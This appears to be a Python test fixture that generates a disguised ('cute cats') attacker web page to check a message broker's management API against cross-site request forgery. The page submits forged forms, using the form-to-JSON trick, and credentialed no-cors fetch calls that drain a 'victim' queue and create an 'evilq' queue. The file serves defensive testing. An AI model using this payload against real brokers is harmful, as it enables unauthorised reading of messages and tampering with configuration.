"""The attacker's page for tests/security/test_browser.py: what a page on another origin can make
a browser send to the broker without any help from the broker (no CORS): HTML forms in each
encoding a form has, fetch() in no-cors mode with the browser's credentials, and a frame."""

from __future__ import annotations

import html
import json
import string
from typing import Any

#: What the page asks for: every message of 'victim', and a new queue 'evilq'.
GET_ALL = {"count": 100, "ackmode": "ack_requeue_false", "encoding": "auto"}
EVIL_DEFS = {
    "queues": [{"name": "evilq", "vhost": "/", "durable": True, "auto_delete": False, "arguments": {}}]
}


def json_as_text_plain(doc: dict[str, Any]) -> tuple[str, str]:
    """A text/plain form field whose ``name=value`` body is ``doc`` as JSON: the name holds the
    JSON up to an extra string member, the value closes it (the classic form-to-JSON trick)."""
    text = json.dumps({**doc, "pad": "="})
    name, _, value = text.rpartition("=")
    return name, value


_GET, _DEFS = "/api/queues/%2F/victim/get", "/api/definitions"
_PLAIN_GET, _PLAIN_DEFS = dict([json_as_text_plain(GET_ALL)]), dict([json_as_text_plain(EVIL_DEFS)])
_FILE_DEFS = {"file": json.dumps(EVIL_DEFS)}
#: Forms the page submits in windows of their own, with credentials in the URL: step -> (path,
#: enctype, fields). Then forms it submits in frames, with the credentials the browser cached.
WINDOW_FORMS: dict[str, tuple[str, str, dict[str, Any]]] = {
    "win-get-text-plain": (_GET, "text/plain", _PLAIN_GET),
    "win-defs-text-plain": (_DEFS, "text/plain", _PLAIN_DEFS),
    "win-get-urlencoded": (_GET, "application/x-www-form-urlencoded", GET_ALL),
    "win-defs-multipart": (_DEFS, "multipart/form-data", _FILE_DEFS),
}
FRAME_FORMS: dict[str, tuple[str, str, dict[str, Any]]] = {
    "frame-get-text-plain": (_GET, "text/plain", _PLAIN_GET),
    "frame-defs-text-plain": (_DEFS, "text/plain", _PLAIN_DEFS),
    "frame-get-urlencoded": (_GET, "application/x-www-form-urlencoded", GET_ALL),
    "frame-get-multipart": (_GET, "multipart/form-data", GET_ALL),
    "frame-defs-urlencoded": (_DEFS, "application/x-www-form-urlencoded", _FILE_DEFS),
}


def _form(fid: str, action: str, enctype: str, fields: dict[str, Any]) -> str:
    inputs = "".join(
        f'<input type="hidden" name="{html.escape(k)}" value="{html.escape(str(v))}">'
        for k, v in fields.items()
    )
    return (
        f'<form id="{fid}" method="post" enctype="{enctype}" action="{html.escape(action)}">{inputs}</form>'
    )


def attack_page(broker: str, with_creds: str) -> str:
    """The page. First it opens the broker's /api/whoami with credentials in the URL in a window of
    its own, so the browser caches them as it would for a user who once logged in there. Then it
    submits forms, some in windows of their own with credentials in the URL (top-level navigations,
    where browsers still honour them), the rest in frames, where the cached credentials go along;
    then it tries fetch(); last it frames the dashboard. Every step reports to the page's own server."""
    windows = {
        step: (with_creds + path, enctype, fields) for step, (path, enctype, fields) in WINDOW_FORMS.items()
    }
    frames = {step: (broker + path, enctype, fields) for step, (path, enctype, fields) in FRAME_FORMS.items()}
    markup = "".join(_form(fid, *spec) for fid, spec in {**windows, **frames}.items())
    markup += "".join(f'<iframe name="t-{fid}"></iframe>' for fid in frames)
    script = string.Template("""
const B = $broker, C = $creds, WINDOWS = $windows, FRAMES = $frames;
const GET_BODY = $get, DEFS_BODY = $defs;
async function report(step, outcome) {
  await fetch("/report", {method: "POST", body: JSON.stringify({step: step, outcome: outcome})});
}
function frameLoaded(frame) {
  return new Promise((resolve) => {
    frame.addEventListener("load", () => resolve("loaded"), {once: true});
    setTimeout(() => resolve("no load event"), 3000);
  });
}
async function answered(w) {
  // A window of the page's own shows the broker's answer once its location is another origin's.
  // (An opener gets no load event from another origin's document: this polls.)
  for (let i = 0; i < 25; i++) {
    try { void w.location.href; } catch (e) { return "answered"; }
    await new Promise((r) => setTimeout(r, 20));
  }
  return "no answer shown";
}
async function inWindow(step, url, form) {
  const w = window.open("about:blank", "w-" + step);
  if (!w) return report(step, "popup blocked");
  if (form) { form.target = "w-" + step; form.submit(); } else { w.location = url; }
  const outcome = await answered(w);
  w.close();
  await report(step, outcome);
}
async function tryFetch(step, url, init) {
  try {
    const r = await fetch(url, init);
    await report(step, "sent: " + r.type + " " + r.status);
  } catch (e) {
    await report(step, "refused by the browser: " + e.message);
  }
}
(async () => {
  await inWindow("prime", C + "/api/whoami", null);
  for (const id of WINDOWS) await inWindow(id, null, document.getElementById(id));
  for (const id of FRAMES) {
    const form = document.getElementById(id);
    form.target = "t-" + id;
    const wait = frameLoaded(document.getElementsByName(form.target)[0]);
    form.submit();
    await report(id, await wait);
  }
  const noCors = {mode: "no-cors", credentials: "include"};
  await tryFetch("fetch-put-no-cors", B + "/api/queues/%2F/evilq",
                 Object.assign({method: "PUT", body: "{}"}, noCors));
  await tryFetch("fetch-put-cors-json", B + "/api/queues/%2F/evilq",
                 {method: "PUT", mode: "cors", credentials: "include",
                  headers: {"Content-Type": "application/json"}, body: "{}"});
  await tryFetch("fetch-get-no-cors", B + "/api/queues/%2F/victim/get",
                 Object.assign({method: "POST", body: GET_BODY}, noCors));
  await tryFetch("fetch-defs-no-cors", B + "/api/definitions",
                 Object.assign({method: "POST", body: DEFS_BODY}, noCors));
  await tryFetch("fetch-creds-in-url", C + "/api/queues/%2F/victim/get",
                 Object.assign({method: "POST", body: GET_BODY}, noCors));
  const dash = document.getElementById("dashboard");
  const wait = frameLoaded(dash);
  dash.src = B + "/";
  await report("frame-dashboard", await wait);
  await report("done", "");
})();
""").substitute(
        broker=json.dumps(broker),
        creds=json.dumps(with_creds),
        windows=json.dumps(list(windows)),
        frames=json.dumps(list(frames)),
        get=json.dumps(json.dumps(GET_ALL)),
        defs=json.dumps(json.dumps(EVIL_DEFS)),
    )
    return (f"<!doctype html><html><head><title>cute cats</title></head><body>{markup}"
            f'<iframe id="dashboard"></iframe><script>{script}</script></body></html>')  # fmt: skip
